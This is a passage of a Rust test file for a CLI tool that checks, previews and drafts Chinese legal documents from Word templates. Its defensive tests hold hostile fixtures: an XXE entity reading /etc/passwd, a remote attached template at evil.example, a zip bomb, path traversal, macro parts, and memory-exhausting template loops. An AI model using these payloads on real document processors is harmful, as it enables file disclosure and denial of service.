//! `sucheng template`.

use sucheng::papers::Package;

use super::{ends, shows};
use crate::support::Room;

#[test]
fn lists_and_shows() {
    let room = Room::workspace();
    let answer = room.json(&["template", "list"]);
    let kinds = answer["templates"].as_array().unwrap();
    let complaint = kinds.iter().find(|t| t["kind"] == "complaint").unwrap();
    assert_eq!(complaint["title"], "民事起诉状");
    assert_eq!(complaint["origin"], "built-in");
    let fields = ends(&room, 0, &["template", "show", "complaint", "--fields"]).stdout;
    assert!(fields.lines().any(|l| l.starts_with("respondents[].id.number")), "{fields}");
    shows(&room, "template-fields", &["template", "show", "representative-certificate", "--fields"]);
    let zh = ["template", "show", "representative-certificate", "--fields", "--lang", "zh-CN"];
    shows(&room, "template-fields-zh", &zh);
    // A field that the sample lacks is shown too, with an example.
    let answer = room.json(&["template", "show", "power-of-attorney", "--fields"]);
    let field = answer["fields"].as_array().unwrap().iter().find(|f| f["field"] == "withheld").unwrap();
    assert!(field["example"].is_string() && field["meaning"]["en"].is_string() && field["type"] == "text");
    shows(&room, "template-unknown", &["template", "show", "complant"]);
}

/// A copy in the workspace takes the place of the built-in one; a built-in one is never checked unasked.
#[test]
fn a_template_is_copied_and_checked() {
    let room = Room::workspace();
    assert!(ends(&room, 0, &["template", "check"]).stderr.contains("0 template(s) checked"));
    ends(&room, 0, &["template", "new", "complaint"]);
    assert!(ends(&room, 0, &["template", "check"]).stderr.contains("1 template(s) checked, 0 problem(s)"));
    shows(&room, "template-new-twice", &["template", "new", "complaint"]);
    shows(&room, "template-new-name", &["template", "new", "../x"]);
    ends(&room, 0, &["template", "new", "our-letter", "--from", "demand-letter"]);
    let manifest = room.read("templates/cn/our-letter/manifest.yaml");
    assert!(manifest.starts_with("kind: our-letter"), "{manifest}");
    let page = room.read("templates/cn/complaint/page.typ");
    room.write("templates/cn/complaint/page.typ", format!("{page}\n#data.nothing_of_this_name\n"));
    shows(&room, "template-check-page", &["template", "check"]);
}

/// Every mistake of a Word template in one run, each with its paragraph.
#[test]
fn a_word_templates_mistakes_are_told_at_once() {
    let room = Room::workspace();
    ends(&room, 0, &["template", "new", "complaint"]);
    let paragraph = |text: &str| format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>");
    let body = [
        "原告：{{ claimant.nam }}",
        "{{ claimant.phone|yuann }}",
        "{{ date",
        "{%tr if cause %}",
        "{% for c in claims %}",
    ]
    .map(paragraph)
    .concat();
    let types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    let document = format!("<w:document xmlns:w=\"w\"><w:body>{body}</w:body></w:document>");
    let mut package = Package::default();
    package.parts.insert("[Content_Types].xml".into(), types.into());
    package.parts.insert("word/document.xml".into(), document.into_bytes());
    room.write("templates/cn/complaint/body.docx", package.write().unwrap());
    shows(&room, "template-check-word", &["template", "check"]);
    shows(&room, "template-check-word-zh", &["template", "check", "complaint", "--lang", "zh-CN"]);
    // Copies with a comment at each mistake; ours are written over, a person's are not.
    let annotate = ["template", "check", "complaint", "--annotate"];
    let copy = room.path().join("out/preview/complaint.checked.docx");
    shows(&room, "template-check-annotated", &annotate);
    let first = std::fs::read(&copy).unwrap();
    ends(&room, 1, &annotate);
    assert_eq!(std::fs::read(&copy).unwrap(), first, "the same comments give the same bytes");
    let mut package = Package::open(&first).unwrap();
    assert!(package.text("word/comments.xml").unwrap().contains("did you mean claimant.name?"));
    package.parts.insert("word/mine.xml".into(), b"<a/>".to_vec());
    std::fs::write(&copy, package.write().unwrap()).unwrap();
    ends(&room, 1, &annotate);
    assert!(room.path().join("out/preview/complaint.checked-2.docx").is_file());
    let file = room.path().join("templates/cn/complaint/body.docx");
    std::fs::copy(file, room.path().join("letter.docx")).unwrap();
    let tried = room.json(&["template", "check", "letter.docx", "--annotate", "-o", "seen"]);
    assert_eq!(tried["annotated"].as_array().unwrap().len(), 1, "{tried}");
    let fields = |answer: &serde_json::Value| {
        let problems = answer["problems"].as_array().unwrap();
        problems.iter().filter(|p| p["code"] == "E-WORD-FIELD-NEAR").count()
    };
    let with_sample = room.json(&["template", "check", "letter.docx", "--as", "complaint"]);
    assert_eq!((fields(&tried), fields(&with_sample)), (0, 1));
    room.write("letter.docx", "not a Word file");
    shows(&room, "template-check-file", &["template", "check", "letter.docx"]);
}

/// The sample in each format the template has; what is wrong with one of them does not keep the others back.
#[test]
fn a_sample_is_previewed() {
    let room = Room::workspace();
    shows(&room, "template-preview", &["template", "preview", "complaint"]);
    let bytes = |name: &str| std::fs::read(room.path().join("out/preview").join(name)).unwrap();
    assert!(bytes("complaint.pdf").starts_with(b"%PDF") && bytes("complaint.docx").starts_with(b"PK"));
    let answer = room.json(&["template", "preview", "demand-email", "-o", "seen"]);
    assert_eq!(answer["written"].as_array().unwrap().len(), 2, "{answer}");
    assert!(bytes("complaint.01.png").starts_with(b"\x89PNG"));
    assert!(room.read("seen/demand-email.txt").contains("元"));
    ends(&room, 0, &["template", "new", "complaint"]);
    room.write("templates/cn/complaint/body.docx", "no ZIP");
    std::fs::remove_dir_all(room.path().join("out/preview")).unwrap();
    shows(&room, "template-preview-wrong", &["template", "preview", "complaint"]);
    assert!(bytes("complaint.pdf").starts_with(b"%PDF"));
    shows(&room, "template-preview-unknown", &["template", "preview", "complant"]);
}

/// A template under a name of its own says what a built-in one says: checked, previewed, drafted, verified, shown.
#[test]
fn a_firms_own_kind_is_drafted() {
    let room = super::all_cases();
    ends(&room, 0, &["template", "new", "our-letter", "--from", "demand-letter"]);
    ends(&room, 0, &["template", "check", "our-letter"]);
    ends(&room, 0, &["template", "preview", "our-letter"]);
    let drafted = ["draft", "our-letter,demand-letter", "CC-2026-000123", "--format", "pdf,docx"];
    let answer = room.json(&drafted);
    let names: Vec<&str> = answer["drafted"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["path"].as_str().unwrap().rsplit('/').next().unwrap())
        .collect();
    assert_eq!(
        names,
        ["11催收函（our-letter）.pdf", "11催收函（our-letter）.docx", "11催收函.pdf", "11催收函.docx"]
    );
    assert_eq!(room.json(&["verify"])["sound"], true);
    ends(&room, 0, &["check", "CC-2026-000123", "--for", "our-letter"]);
    ends(&room, 0, &["amend", "CC-2026-000123", "--set", "debtors[0].name=李实例", "--reason", "x"]);
    let shown = room.json(&["show", "CC-2026-000123"]);
    let stale = shown["documents"].as_array().unwrap().iter().filter(|d| d["stale"] == true).count();
    assert_eq!(stale, 4, "{shown}");
    let manifest = room.read("templates/cn/our-letter/manifest.yaml");
    room.write("templates/cn/our-letter/manifest.yaml", manifest.replace("like: demand-letter", ""));
    shows(&room, "template-not-like", &["draft", "our-letter", "CC-2026-000123"]);
}

/// A template is for documents of its days; nothing is drafted from it on another. Its version is kept.
#[test]
fn a_template_out_of_its_days_drafts_nothing() {
    let room = super::all_cases();
    ends(&room, 0, &["template", "new", "demand-letter"]);
    let path = "templates/cn/demand-letter/manifest.yaml";
    let manifest = room.read(path);
    let valid = "version: \"2026-1\"\nvalid: {from: 2026-01-01, until: 2026-12-31}";
    room.write(path, manifest.replace("version: 1", valid));
    let list = room.json(&["template", "list"]);
    let own = list["templates"].as_array().unwrap().iter().find(|t| t["kind"] == "demand-letter").unwrap();
    assert_eq!((&own["version"], &own["valid"]["until"]), (&"2026-1".into(), &"2026-12-31".into()));
    ends(&room, 0, &["draft", "demand-letter", "CC-2026-000123"]);
    let log = ends(&room, 0, &["registry", "export"]).stdout;
    assert!(log.contains("\"template_version\":\"2026-1\""));
    shows(
        &room,
        "template-out-of-its-days",
        &["draft", "demand-letter", "CC-2026-000123", "--as-of", "2027-01-01"],
    );
    shows(&room, "template-check-days", &["template", "check", "--as-of", "2027-01-01"]);
    let listed = |day: &str, lang: &str| {
        let list = ends(&room, 0, &["template", "list", "--as-of", day, "--lang", lang]).stdout;
        list.lines().find(|line| line.starts_with("demand-letter")).unwrap().to_owned()
    };
    assert!(listed("2027-01-01", "en").contains("(expired)"));
    assert!(listed("2025-12-31", "zh-CN").contains("（未生效）"));
    assert!(!listed("2026-12-31", "en").contains('('));
}

/// What a firm prints above its letters stands on their pages and in Word, and is part of what `verify` compares; other
/// documents do not change by it.
#[test]
fn a_letterhead_stands_above_letters() {
    let room = super::all_cases();
    let case = "CC-2026-000123";
    let kinds = "lawyers-letter,demand-letter,complaint";
    room.json(&["draft", kinds, case, "--format", "pdf,docx"]);
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"30\" height=\"10\"><rect width=\"30\" height=\"10\"/></svg>";
    room.write("templates/cn/house/mark.svg", svg);
    let head = "counsel: {logo: mark.svg, lines: [示例律师事务所, 示例大街1号]}\ncreditor: {lines: [示例银行示例部]}\n";
    room.write("templates/cn/house/letterhead.yaml", head);
    let verified = room.json(&["verify", case]);
    let other: Vec<String> = verified["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["because"] == "template")
        .map(|f| f["what"].as_str().unwrap().rsplit('/').next().unwrap().to_owned())
        .collect();
    assert_eq!(other, ["11催收函.docx", "11催收函.pdf", "12律师函.docx", "12律师函.pdf"]);
    shows(&room, "template-letterhead-svg", &["draft", "lawyers-letter", case, "--format", "docx"]);
    // A picture of one point: the smallest PNG there is.
    let png: &[u8] = &[
        0x89, b'P', b'N', b'G', 13, 10, 26, 10, 0, 0, 0, 13, b'I', b'H', b'D', b'R', 0, 0, 0, 1, 0, 0, 0, 1,
        8, 0, 0, 0, 0, 0x3A, 0x7E, 0x9B, 0x55, 0, 0, 0, 10, b'I', b'D', b'A', b'T', 0x78, 0x9C, 0x63, 0x60,
        0, 0, 0, 2, 0, 1, 0x48, 0xAF, 0xA4, 0x71, 0, 0, 0, 0, b'I', b'E', b'N', b'D', 0xAE, 0x42, 0x60, 0x82,
    ];
    room.write("templates/cn/house/mark.png", png);
    let answer = room.json(&["draft", "lawyers-letter,demand-letter", case, "--format", "pdf,docx"]);
    assert_eq!(answer["failed"], serde_json::json!([]), "{answer}");
    let file = |name: &str| std::fs::read(room.path().join("out").join(case).join(name)).unwrap();
    let package = Package::open(&file("12律师函.docx")).unwrap();
    assert_eq!(package.parts["word/media/letterhead.png"], png);
    let document = package.text("word/document.xml").unwrap();
    assert_eq!(document.matches(">示例律师事务所<").count(), 1, "the template's own head gives way");
    assert!(document.contains("示例大街1号") && document.contains("r:embed=\"rIdS1\""));
    let letter = Package::open(&file("11催收函.docx")).unwrap();
    assert!(letter.text("word/document.xml").unwrap().contains("示例银行示例部"));
    assert_eq!(room.json(&["verify", case])["sound"], true);
    room.write("templates/cn/house/letterhead.yaml", "counsel: {lines: []}\n");
    shows(&room, "template-letterhead-wrong", &["draft", "lawyers-letter", case]);
    // Said once, in the language of the reader, and not for each template that bears it.
    let told = ends(&room, 1, &["template", "check", "--lang", "zh-CN"]).stdout;
    assert_eq!(told.matches("E-HEAD-LINES").count(), 1, "{told}");
    assert!(told.contains("抬头须有 1 至 6 行"), "{told}");
}

/// A Word template of the workspace that takes memory without end is stopped, as a page is; others are drafted.
#[cfg(target_os = "linux")]
#[test]
fn a_word_template_that_never_ends_is_stopped() {
    let room = super::all_cases();
    ends(&room, 0, &["template", "new", "demand-letter"]);
    let write = |text: &str| {
        let path = "templates/cn/demand-letter/body.docx";
        let mut package = Package::open(&std::fs::read(room.path().join(path)).unwrap()).unwrap();
        let body = format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>");
        let document = format!(
            "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{body}</w:body></w:document>"
        );
        package.parts.insert("word/document.xml".into(), document.into_bytes());
        room.write(path, package.write().unwrap());
    };
    write(
        "{% set n = namespace(x=title) %}{% for i in range(60) %}{% set n.x = n.x ~ n.x %}{% endfor %}{{ n.x }}",
    );
    let run = ["draft", "demand-letter,lawyers-letter", "CC-2026-000123", "--format", "docx"];
    shows(&room, "template-word-memory", &run);
    shows(&room, "template-word-memory-check", &["template", "check", "demand-letter"]);
    // Nor is it rendered without a limit for its comments, or as a file that came by mail.
    let told = ends(&room, 1, &["template", "check", "demand-letter", "--annotate"]).stdout;
    assert!(told.contains("E-DRAFT-MEMORY") && !told.contains(".checked"), "{told}");
    std::fs::copy(room.path().join("templates/cn/demand-letter/body.docx"), room.path().join("mail.docx"))
        .unwrap();
    let told =
        ends(&room, 1, &["template", "check", "mail.docx", "--as", "lawyers-letter", "--annotate"]).stdout;
    assert!(told.starts_with("mail.docx: ") && told.contains("E-DRAFT-MEMORY"), "{told}");
    assert!(!told.contains(".checked"), "{told}");
    write(&format!("{}x{}", "{% for a in range(9) %}".repeat(10_000), "{% endfor %}".repeat(10_000)));
    let told = ends(&room, 4, &["draft", "demand-letter", "CC-2026-000123", "--format", "docx"]).stderr;
    assert!(told.contains("E-WORD-BLOCK"), "{told:.600}");
    write("{% for a in range(9999) %}{% for b in range(9999) %}{{ b }}{% endfor %}{% endfor %}");
    let told = ends(&room, 4, &["draft", "demand-letter", "CC-2026-000123", "--format", "docx"]).stderr;
    // Where it loops is said, with its paragraph.
    assert!(told.contains("{% for b in range(9999) %}: the template does not come to an end"), "{told:.600}");
}

/// Documents that are none, or would harm: one clear error each.
#[test]
fn what_is_no_word_document_is_not_compared() {
    let room = Room::workspace();
    room.write("a.docx", "not a Word file");
    shows(&room, "template-diff-no-zip", &["template", "diff", "a.docx", "a.docx"]);
    shows(&room, "template-diff-one", &["template", "diff", "a.docx"]);
    shows(
        &room,
        "template-diff-no-account",
        &["template", "diff", "a.docx", "--account", "X", "--kind", "complaint"],
    );
    let mut package = Package::default();
    let types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    package.parts.insert("[Content_Types].xml".into(), types.into());
    let document = "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><w:document xmlns:w=\"w\"><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>";
    package.parts.insert("word/document.xml".into(), document.into());
    room.write("b.docx", package.write().unwrap());
    shows(&room, "template-diff-entity", &["template", "diff", "b.docx", "b.docx"]);
}

/// A folder anywhere is a template too: its sample is printed where time and memory end it, with a picture of its own.
#[test]
fn a_folder_is_previewed_with_its_own_images() {
    let room = Room::workspace();
    ends(&room, 0, &["template", "new", "our-letter", "--from", "demand-letter"]);
    let from = room.path().join("templates/cn/our-letter");
    let to = room.path().join("elsewhere/our-letter");
    std::fs::create_dir_all(to.parent().unwrap()).unwrap();
    std::fs::rename(&from, &to).unwrap();
    let answer = room.json(&["template", "preview", "./elsewhere/our-letter", "-o", "seen"]);
    let formats: Vec<&str> =
        answer["written"].as_array().unwrap().iter().map(|w| w["format"].as_str().unwrap()).collect();
    assert!(formats.contains(&"pdf") && formats.contains(&"png") && formats.contains(&"docx"), "{answer}");

    // The first page of the preview serves as a picture: a whole PNG.
    std::fs::rename(&to, &from).unwrap();
    let png = std::fs::read(room.path().join("seen/our-letter.01.png")).unwrap();
    std::fs::write(from.join("seal.png"), &png).unwrap();
    let manifest = room.read("templates/cn/our-letter/manifest.yaml");
    let images = |file: &str| format!("{manifest}images:\n  seal: {{file: {file}, width: 40, alt: 公章}}\n");
    room.write("templates/cn/our-letter/manifest.yaml", images("seal.png"));
    let mut package = Package::open(&std::fs::read(from.join("body.docx")).unwrap()).unwrap();
    let text = package.text("word/document.xml").unwrap();
    let tag = "<w:p><w:r><w:t>{{ seal }}</w:t></w:r></w:p><w:sectPr";
    let at = text.rfind("<w:sectPr").unwrap();
    let text = format!("{}{tag}{}", &text[..at], &text[at + "<w:sectPr".len()..]);
    package.parts.insert("word/document.xml".into(), text.clone().into_bytes());
    std::fs::write(from.join("body.docx"), package.write().unwrap()).unwrap();
    ends(&room, 0, &["template", "check", "our-letter"]);
    ends(&room, 0, &["template", "preview", "our-letter"]);
    let word = std::fs::read(room.path().join("out/preview/our-letter.docx")).unwrap();
    let word = Package::open(&word).unwrap();
    assert!(word.parts.iter().any(|(name, part)| name.starts_with("word/media/") && *part == png));
    // A letterhead with a picture of its own stands above the seal, printed or drafted; a mistake is commented on.
    room.write("templates/cn/house/mark.png", &png);
    room.write("templates/cn/house/letterhead.yaml", "creditor: {logo: mark.png, lines: [示例银行示例部]}\n");
    ends(&room, 0, &["template", "check", "our-letter"]);
    ends(&room, 0, &["template", "preview", "our-letter"]);
    let preview = std::fs::read(room.path().join("out/preview/our-letter.docx")).unwrap();
    assert!(with_two_pictures(&preview).contains("示例银行示例部"));
    ends(&room, 0, &["template", "preview", "./templates/cn/our-letter", "-o", "seen"]);
    assert_eq!(std::fs::read(room.path().join("seen/our-letter.docx")).unwrap(), preview);
    let above = std::fs::read(room.path().join("seen/our-letter.01.png")).unwrap();
    assert_ne!(above, png, "the page bears the letterhead");
    let wrong = text.replace("{{ seal }}", "{{ seal }}{{ letterhead.lines[0] }}{{ titel }}");
    let mut package = Package::open(&std::fs::read(from.join("body.docx")).unwrap()).unwrap();
    package.parts.insert("word/document.xml".into(), wrong.into_bytes());
    std::fs::write(from.join("body.docx"), package.write().unwrap()).unwrap();
    let answer = room.json(&["template", "check", "our-letter", "--annotate"]);
    assert_eq!(answer["annotated"].as_array().unwrap().len(), 1, "{answer}");
    let errors: Vec<_> =
        answer["problems"].as_array().unwrap().iter().filter(|p| p["severity"] == "error").collect();
    assert_eq!(
        errors.len(),
        1,
        "neither the image nor the letterhead is a field that is missing: {errors:?}"
    );
    let copy = std::fs::read(room.path().join("out/preview/our-letter.checked.docx")).unwrap();
    let copy = Package::open(&copy).unwrap();
    assert!(copy.text("word/comments.xml").unwrap().contains("titel"));
    assert!(
        !copy.text("word/document.xml").unwrap().contains("示例银行示例部"),
        "the copy is the author's own"
    );
    // No path leads out of the folder.
    room.write("templates/cn/our-letter/manifest.yaml", images("../complaint/page.typ"));
    assert!(ends(&room, 1, &["template", "check", "our-letter"]).stdout.contains("E-TEMPLATE-NO-FILE"));
}

/// The text of a document that has two pictures, each with a relation and a part of its own.
fn with_two_pictures(word: &[u8]) -> String {
    let package = Package::open(word).unwrap();
    let document = package.text("word/document.xml").unwrap();
    let relations = package.text("word/_rels/document.xml.rels").unwrap();
    let embedded: Vec<&str> =
        document.split("r:embed=\"").skip(1).filter_map(|rest| rest.split('"').next()).collect();
    assert_eq!(embedded.len(), 2);
    assert_ne!(embedded[0], embedded[1]);
    for id in embedded {
        let relation =
            relations.split("<Relationship ").find(|r| r.contains(&format!("Id=\"{id}\""))).unwrap();
        let target = relation.split("Target=\"/").nth(1).and_then(|rest| rest.split('"').next()).unwrap();
        assert!(package.parts.contains_key(target), "{target}");
        assert!(package.text("[Content_Types].xml").unwrap().contains(target), "{target}");
    }
    document.to_owned()
}

/// Files that would harm: each is refused by name within bounded time.
#[test]
fn hostile_word_files_are_refused_by_name() {
    let room = Room::workspace();
    let types = "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    let text = |inside: &str| format!("<w:document xmlns:w=\"w\"><w:body>{inside}</w:body></w:document>");
    let loops = "<w:p><w:r><w:t>{%p for a in x %}</w:t></w:r></w:p>".repeat(10_000);
    let outside = "<Relationships><Relationship Id=\"a\" Type=\"x/attachedTemplate\" Target=\"http://evil.example/x.dotm\" TargetMode=\"External\"/></Relationships>";
    let bomb = "a".repeat(140 << 20);
    for (name, part, content, code) in [
        ("bomb", "word/x.xml", bomb.as_str(), "E-WORD-FILE"),
        ("out", "../x.xml", "<a/>", "E-WORD-FILE"),
        (
            "entity",
            "word/document.xml",
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "E-WORD-XML",
        ),
        ("link", "word/_rels/document.xml.rels", outside, "E-WORD-ACTIVE"),
        ("loops", "word/document.xml", &text(&loops), "E-WORD-BLOCK"),
    ] {
        let mut package = Package::default();
        package.parts.insert("[Content_Types].xml".into(), types.into());
        package.parts.insert("word/document.xml".into(), text("").into_bytes());
        package.parts.insert(part.into(), content.into());
        let file = format!("{name}.docx");
        room.write(&file, package.write().unwrap());
        let begun = std::time::Instant::now();
        let told = ends(&room, 1, &["template", "check", &file, "--as", "complaint", "--annotate"]);
        assert!(told.stdout.contains(code), "{name}: {}", &told.stdout[..told.stdout.len().min(500)]);
        assert!(begun.elapsed().as_secs() < 60, "{name}: {:?}", begun.elapsed());
    }
    let macros = types.replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "vnd.ms-word.document.macroEnabled.main+xml",
    );
    let mut package = Package::default();
    package.parts.insert("[Content_Types].xml".into(), macros.into_bytes());
    package.parts.insert("word/document.xml".into(), text("").into_bytes());
    room.write("letter.docm", package.write().unwrap());
    assert!(ends(&room, 1, &["template", "check", "letter.docm"]).stdout.contains("E-WORD-ACTIVE"));
}

/// A Word file with these paragraphs.
fn word_of(paragraphs: &[&str]) -> Package {
    let types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    let body: String =
        paragraphs.iter().map(|text| format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")).collect();
    let document = format!(
        "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{body}</w:body></w:document>"
    );
    let mut package = Package::default();
    package.parts.insert("[Content_Types].xml".into(), types.into());
    package.parts.insert("word/document.xml".into(), document.into_bytes());
    package
}

/// What a program reads of a check: code, field and hint of each error, in order.
fn errors(answer: &serde_json::Value) -> Vec<String> {
    let text = |value: &serde_json::Value| value.as_str().unwrap_or("-").to_owned();
    let errors = answer["problems"].as_array().unwrap().iter().filter(|p| p["severity"] == "error");
    errors.map(|p| format!("{} {} {}", text(&p["code"]), text(&p["field"]), text(&p["hint"]))).collect()
}

/// Behind a test, a default or a branch not taken, by an index, under another name: a field that no document has is
/// found, with the nearest there is; so are values that do not go with their filter, and braces that are no tags.
#[test]
fn every_mistake_of_a_word_template_is_found_in_one_run() {
    let room = Room::workspace();
    let wrong = word_of(&[
        "{% if claimant.adress is defined %}住{% endif %}",
        "{{ claimant.phon|default('无') }}",
        "{% if redacted %}{{ claimant.nam }}{% endif %}",
        "{{ respondents[0].nam }}",
        "{{ title|yuan }}",
        "{{ claims }}",
        "{% for r in respondents %}{{ r.nam }}{{ r.id.numbr }}{% endfor %}",
        "{% set c = claimant %}{{ c.emial }}",
        "{{ mystery(1) }}{{ title|yuann }}",
        "｛｛ title ｝｝",
        "{ { title } }",
        "title }}",
        "{%tr for r in respondents %}{{ r.nmae }}",
        "{%p if title %}{{ clams }}",
        "{%p endif %}",
        "{{ total.figure",
    ]);
    room.write("letter.docx", wrong.write().unwrap());
    let answer = room.json(&["template", "check", "letter.docx", "--as", "complaint"]);
    let found = errors(&answer);
    for (code, field, near) in [
        ("E-WORD-FIELD-NEAR", "claimant.adress", "claimant.address"),
        ("E-WORD-FIELD-NEAR", "claimant.phon", "claimant.phone"),
        ("E-WORD-FIELD-NEAR", "claimant.nam", "claimant.name"),
        ("E-WORD-FIELD-NEAR", "respondents[0].nam", "respondents[0].name"),
        ("E-WORD-FIELD-NEAR", "r.nam", "r.name"),
        ("E-WORD-FIELD-NEAR", "r.id.numbr", "r.id.number"),
        ("E-WORD-FIELD-NEAR", "c.emial", "c.email"),
        ("E-WORD-FIELD-NEAR", "r.nmae", "r.name"),
        ("E-WORD-FIELD-NEAR", "clams", "claims"),
    ] {
        let told = format!("{code} {field} did you mean {near}?");
        assert!(found.contains(&told), "{told}: {found:#?}");
    }
    let times = |code: &str| found.iter().filter(|told| told.starts_with(code)).count();
    for (code, expected) in [
        ("E-WORD-FAILED ", 2),
        ("E-WORD-UNKNOWN ", 2),
        ("E-WORD-BRACES ", 3),
        ("E-WORD-OUTSIDE ", 1),
        ("E-WORD-LOST ", 1),
        ("E-WORD-UNCLOSED ", 1),
        ("E-WORD-BLOCK ", 1),
    ] {
        assert_eq!(times(code), expected, "{code}: {found:#?}");
    }
    assert_eq!(found.len(), 20, "{found:#?}");
    shows(&room, "template-check-everything", &["template", "check", "letter.docx", "--as", "complaint"]);
    // What is right is not complained of: names that loops, set, macros and the engine bring.
    let right = word_of(&[
        "{% macro m(x, y='') %}{{ x }}{{ y }}{% endmacro %}{{ m(title) }}",
        "{% for r in respondents if r.company is defined %}{{ loop.index }}{{ r.name }}{% endfor %}",
        "{% for k, v in claimant|items %}{{ k }}{% endfor %}{% for i in range(3) %}{{ i }}{% endfor %}",
        "{% set n = namespace(x=0) %}{% set n.x = n.x + 1 %}{{ n.x }}",
        "{% with a = claimant.name, b = 1 %}{{ a ~ b }}{% endwith %}",
        "{% if claimant.counsel is defined %}{{ claimant.counsel.name }}{% endif %}",
        "{{ claims|join('；') }}{{ claims|length }}{{ claims[0] }}{{ claims|first }}",
        "{{ (claimant.email if claimant.email is defined else '无')|upper }}",
        "{% if letterhead is defined %}{{ letterhead.lines[0] }}{% endif %}",
        "{{ respondents[0].phones|default([])|join('、') }}{{ title.replace('状', '') }}",
        "年利率24%，{_{ 原样 }_}",
    ]);
    room.write("right.docx", right.write().unwrap());
    let answer = room.json(&["template", "check", "right.docx", "--as", "complaint"]);
    assert_eq!(errors(&answer), Vec::<String>::new());
}

/// The same of a mail: every mistake of every text and of the subject, with its line.
#[test]
fn every_mistake_of_a_text_is_found_in_one_run() {
    let room = Room::workspace();
    ends(&room, 0, &["template", "new", "demand-email"]);
    let body = "{% if debtor.nmae is defined %}甲{% endif %}\n{{ debt.totl|default('') }}\n{{ debtors }}\n｛｛ account ｝｝\n\
                {{ creditor.name|yuan }}{{ account|maks_number }}\n{% if redacted_ %}{{ x }}{% endif %}\n{{ account.. }}\n";
    room.write("templates/cn/demand-email/body.txt.j2", body);
    let manifest = room.read("templates/cn/demand-email/manifest.yaml");
    let subject = manifest.lines().find(|line| line.starts_with("subject:")).unwrap();
    let manifest = manifest.replace(subject, "subject: \"{{ creditor.nmae }}\"");
    room.write("templates/cn/demand-email/manifest.yaml", manifest);
    let run = shows(&room, "template-check-text", &["template", "check", "demand-email"]);
    assert_eq!(run.status, 1);
    for told in [
        "debtor.name?",
        "debt.total?",
        "｛｛ account ｝｝",
        "filter maks_number",
        "creditor.name?",
        "redacted_",
    ] {
        assert!(run.stdout.contains(told), "{told}: {}", run.stdout);
    }
}

/// Each file on its own, by its own name: one that cannot be read does not keep the others back.
#[test]
fn files_are_checked_each_on_its_own() {
    let room = Room::workspace();
    room.write("good.docx", word_of(&["{{ title }}"]).write().unwrap());
    std::fs::File::create(room.path().join("huge.docx")).unwrap().set_len(9 << 20).unwrap();
    let order = ["template", "check", "huge.docx", "gone.docx", "good.docx", "--as", "complaint"];
    let told = ends(&room, 3, &order).stdout;
    assert!(told.contains("huge.docx") && told.contains("gone.docx") && told.contains("good.docx"), "{told}");
    assert_eq!(room.json(&order)["checked"], 3);
    ends(&room, 1, &["template", "check", "huge.docx"]);
    ends(&room, 1, &["template", "check", "./not-a-kind.doc"]);
}

/// `like` names a document of the program; anything else drafts nothing.
#[test]
fn what_a_template_is_like_is_checked() {
    let room = Room::workspace();
    ends(&room, 0, &["template", "new", "our-letter", "--from", "demand-letter"]);
    ends(&room, 0, &["template", "new", "our-other", "--from", "demand-letter"]);
    let path = "templates/cn/our-letter/manifest.yaml";
    let manifest = room.read(path);
    for (like, told) in [
        ("like: demand-leter", "did you mean demand-letter?"),
        ("like: demand-email", "E-TEMPLATE-LIKE]"),
        ("like: our-other", "E-TEMPLATE-LIKE]"),
        ("like: our-letter", "E-TEMPLATE-MANIFEST"),
        ("like: nonsense-of-all-kinds", "E-TEMPLATE-LIKE]"),
        ("", "E-TEMPLATE-NO-LIKE"),
    ] {
        room.write(path, manifest.replace("like: demand-letter", like));
        let said = ends(&room, 1, &["template", "check", "our-letter"]).stdout;
        assert!(said.contains(told), "{like}: {said}");
    }
    room.write(path, manifest.replace("version: 1", "version: -1"));
    let said = ends(&room, 1, &["template", "check", "our-letter"]).stdout;
    assert!(said.contains("expected a whole number from 1") && !said.contains("untagged"), "{said}");
}

/// What is no Word document, or holds what Word would run, is refused, whether or not anything in the file refers to it.
#[test]
fn files_without_a_text_or_with_macros_nobody_refers_to_are_refused() {
    let room = Room::workspace();
    let mut package = word_of(&["{{ title }}"]);
    package.parts.insert("word/vbaProject.bin".into(), b"x".to_vec());
    room.write("macro.docx", package.write().unwrap());
    let mut package = word_of(&["{{ title }}"]);
    package.parts.remove("word/document.xml");
    room.write("empty.docx", package.write().unwrap());
    let whole = word_of(&["{{ title }}"]).write().unwrap();
    let name = b"word/document.xml";
    let mut package = word_of(&["{{ title }}"]);
    package.parts.insert("word/documenT.xml".into(), b"<a/>".to_vec());
    room.write("case.docx", package.write().unwrap());
    // The same name twice: another part of as many letters is renamed in both of its headers.
    let mut package = word_of(&["{{ title }}"]);
    package.parts.insert("word/documenX.xml".into(), b"<a/>".to_vec());
    let mut bytes = package.write().unwrap();
    assert_ne!(bytes, whole);
    while let Some(at) = bytes.windows(name.len()).position(|w| w == b"word/documenX.xml") {
        bytes[at..at + name.len()].copy_from_slice(name);
    }
    room.write("twice.docx", bytes);
    for (file, code) in [
        ("macro.docx", "E-WORD-ACTIVE"),
        ("empty.docx", "E-WORD-NOT-WORD"),
        ("case.docx", "E-WORD-FILE"),
        ("twice.docx", "E-WORD-FILE"),
    ] {
        let said = ends(&room, 1, &["template", "check", file]).stdout;
